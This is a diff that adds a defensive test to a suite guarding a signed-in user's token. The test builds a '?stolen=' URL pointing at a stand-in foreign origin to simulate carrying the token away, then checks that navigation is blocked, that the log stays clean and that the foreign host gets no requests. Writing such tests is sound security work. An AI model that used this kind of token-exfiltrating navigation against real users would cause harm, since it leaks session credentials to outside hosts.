@@ -243,6 +243,15 @@ describe.skipIf(findChromium() === null)('the token of a person who is signed in
     });
   });
 
+  it('is not in what the log says of an attempt to carry it away', async () => {
+    const target = `${foreign.origin}/?stolen=${second.join('.')}`;
+    await app.page.evaluate((url) => location.assign(url), target);
+    const log = () => readFile(join(userDataDir, 'logs', 'main.log'), 'utf8').catch(() => '');
+    await expect.poll(log, patience).toContain('navigation.blocked');
+    clean(await log(), 'the log');
+    expect(foreign.requests).toEqual([]);
+  });
+
   it('is not on the disk, also after the page has crashed', async () => {
     const cdp = await app.page.context().newCDPSession(app.page);
     const crashed = app.page.waitForEvent('crash');
